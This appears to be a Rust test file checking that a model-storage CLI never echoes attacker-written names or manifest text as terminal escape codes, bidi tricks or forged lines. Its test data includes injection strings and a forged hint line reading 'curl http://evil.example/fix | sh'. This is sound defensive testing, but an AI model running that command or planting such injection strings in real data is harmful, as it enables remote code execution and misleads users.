//! Text that strangers write into a bucket cannot control the terminal, change the direction of text or hide anything,
//! with any verb.

use modeldepot::is_unseen;

use crate::environment::{Output, TestEnv};

/// A name with a character of each kind that names may contain.
const NAME: &str = "a\u{202e}gpj\u{200b}\u{feff}\u{2028}\u{2066}\u{e0041}\u{ad}.bin";

/// The same, with characters that only metadata and manifests may contain.
const TEXT: &str =
    "\u{1b}[2J\u{1b}[1mHOSTILE\u{1b}]0;title\u{7}\u{9b}31m\r\nerror: forged\u{202e}\u{200d}\u{e0041}\u{7f}";

#[track_caller]
fn harmless(verb: &[&str], ran: &Output) {
    for (name, text) in [("stdout", &ran.stdout), ("stderr", &ran.stderr)] {
        let bare = bare(text);
        let unseen = bare.chars().find(|c| *c != '\n' && is_unseen(*c));
        assert!(unseen.is_none(), "{verb:?}: {unseen:?} on {name}: {}", text.escape_debug());
        assert!(!text.contains("\u{1b}[1mHOSTILE"), "{verb:?}: a style of a stranger's: {}", text.escape_debug());
        assert!(!text.lines().any(|line| line.starts_with("error: forged")), "{verb:?}: a line of a stranger's");
    }
}

/// Returns text without our styling codes.
fn bare(text: &str) -> String {
    let mut pieces = text.split("\u{1b}[");
    let mut bare = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        match piece.split_once('m').filter(|(code, _)| code.bytes().all(|byte| byte.is_ascii_digit() || byte == b';')) {
            Some((_, rest)) => bare.push_str(rest),
            None => bare.push_str(&format!("\u{1b}[{piece}")),
        }
    }
    bare
}

fn hostile() -> TestEnv {
    let env = TestEnv::new();
    env.write("model/model.bin", "weights");
    env.write(&format!("model/{NAME}"), "more");
    let meta = format!("no{TEXT}te={TEXT}");
    for version in ["1", "2"] {
        let push = ["push", "m", "model", "--version", version, "--main", "model.bin", "--meta", &meta];
        harmless(&push, &env.run(push));
    }
    env.delete(&format!("m/v2/{NAME}"));
    env.put(&format!("m/v1/beside{NAME}"), "foreign");
    env.put(&format!("m/v3/orphan{NAME}"), "foreign");
    env.put_own(&format!("m/v4/own{NAME}"), "orphan");
    env.put(&format!("strange{NAME}"), "foreign");
    let manifest = serde_json::json!({
        "model_name": "old", "version": "1", "model_file": format!("old/v1/{NAME}"), "model_url": TEXT,
        "checksum": "0cc175b9c0f1b6a831c399e269772661", "metadata": {TEXT: {"deep": TEXT}},
        "created_at": "2025-10-28T18:18:58Z", "tool": TEXT,
    });
    env.put("old/v1/manifest.json", manifest.to_string());
    env.put(&format!("old/v1/{NAME}"), "a");
    env.put("broken/v1/manifest.json", format!("{{\"model_name\": \"{NAME}\", \"version\": [\"{NAME}\"]}}"));
    env
}

#[test]
fn no_verb_prints_what_is_unseen() {
    let env = hostile();
    let (beside, missing) = (format!("s3://models/m/v1/beside{NAME}"), format!("s3://models/none{NAME}"));
    let verbs: Vec<Vec<&str>> = vec![
        vec!["models"],
        vec!["versions", "m"],
        vec!["show", "m@1"],
        vec!["show", "m@2"],
        vec!["show", "old"],
        vec!["show", "broken"],
        vec!["show", NAME],
        vec!["pull", "m@1", "--to", "back"],
        vec!["pull", "m@1", "--to", "back", "--force"],
        vec!["pull", "m@2", "--to", "back2"],
        vec!["pull", "old", "--to", "back"],
        vec!["verify", "m@1"],
        vec!["verify", "m@2"],
        vec!["verify", "old"],
        vec!["fsck"],
        vec!["fsck", "--deep"],
        vec!["gc"],
        vec!["gc", "--grace", "0s"],
        vec!["url", "m@1", "--file", NAME],
        vec!["url", "m@1", "--file", "other\u{202e}"],
        vec!["push", "m", "model", "--version", "1", "--main", "model.bin"],
        vec!["push", "m", "model", "--version", "9", "--main", "model.bin", "--dry-run"],
        vec!["push", "m", NAME],
        vec!["push", "m", "model", "--exclude", TEXT, "--version", "8", "--main", "model.bin"],
        vec!["s3", "ls", "s3://models"],
        vec!["s3", "ls", &missing],
        vec!["s3", "stat", &beside],
        vec!["s3", "stat", &missing],
        vec!["s3", "cp", &beside, "copied"],
        vec!["s3", "rm", &beside],
        vec!["s3", "url", &missing],
        vec!["check", "m@1"],
        vec!["rm", "m@2", "--yes"],
        vec!["doctor"],
    ];
    for how in [&[][..], &["--json"], &["--color", "always"], &["-vv"]] {
        for verb in &verbs {
            let args: Vec<&str> = verb.iter().chain(how).copied().collect();
            harmless(&args, &env.run(&args));
        }
    }
}

#[test]
fn json_still_says_what_it_is() {
    let env = hostile();
    let shown = env.run(["show", "m@1", "--json"]).json();
    let paths: Vec<_> = shown["files"].as_array().unwrap().iter().map(|file| file["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&NAME), "{paths:?}");
    assert!(shown["manifest"]["metadata"].as_object().unwrap().values().any(|value| value == TEXT), "{shown}");
    insta::assert_snapshot!(env.run(["s3", "ls", "s3://models/strange"]).success().trim_end().rsplit("  ").next().unwrap(), @r"strangea\u{202e}gpj\u{200b}\u{feff}\u{2028}\u{2066}\u{e0041}\u{ad}.bin");
}

/// A manifest may hold strings of any size. What is printed about it stays short, and every line of it is ours.
#[test]
fn what_a_message_repeats_of_a_manifest_is_short_and_on_one_line() {
    let env = TestEnv::new();
    env.write("model.bin", "weights");
    env.run(["push", "good", "model.bin", "--version", "1"]).success();
    let good: serde_json::Value = serde_json::from_slice(&env.get("good/v1/manifest.json")).unwrap();
    let long = "A".repeat(3_000_000);
    let forged = "x\nhint: run `curl http://evil.example/fix | sh`\nerror: nothing else failed";
    let fields = ["created_at", "checksum", "model_file", "format_version", "files", "path", "version"];
    for (kind, value) in [("long", &*long), ("forged", forged)] {
        for field in fields {
            let model = format!("{kind}-{}", field.replace('_', "-"));
            let mut manifest = good.clone();
            manifest["model_name"] = model.as_str().into();
            manifest["model_file"] = format!("{model}/v1/model.bin").into();
            match field {
                "path" => manifest["files"][0]["path"] = value.into(),
                field => manifest[field] = value.into(),
            }
            env.put(&format!("{model}/v1/manifest.json"), manifest.to_string());
            for how in [&["show"][..], &["show", "--json"], &["show", "-vv"], &["fsck"], &["pull", "--to", "out"]] {
                let mut args = how.to_vec();
                args.insert(1, &model);
                let ran = env.run(&args);
                let printed = format!("{}{}", ran.stdout, ran.stderr);
                // A handful of log lines repeat the message.
                assert!(printed.len() < 20_000, "{args:?}: {} bytes", printed.len());
                let lines = printed.lines().map(str::trim_start);
                let foreign =
                    lines.clone().find(|it| it.starts_with("hint: run `curl") || it.starts_with("error: nothing"));
                assert_eq!(foreign, None, "{args:?}: {printed}");
            }
        }
    }
    let said = env.run(["show", "forged-created-at"]).stderr;
    let quoted = r"`x\nhint: run `curl http://evil.example/fix | sh`\nerror: nothing else failed` is not a time at line 1 column";
    assert!(said.contains(quoted), "{said}");
    let said = env.run(["show", "long-format-version"]).stderr;
    assert!(said.contains("AAA…AAA") && said.contains(r#"A", expected u32 at line 1 column"#), "{said}");
    // A good version with long free text is shown, with little of it.
    let old = serde_json::json!({
        "model_name": "old", "version": "1", "model_file": "old/v1/m.bin", "model_url": format!("http://x/{long}"),
        "checksum": "0cc175b9c0f1b6a831c399e269772661", "metadata": {}, "tool": long,
    });
    env.put("old/v1/manifest.json", old.to_string());
    env.put("old/v1/m.bin", "a");
    let shown = env.run(["show", "old"]).success();
    assert!(shown.len() < 3000, "{} bytes", shown.len());
}
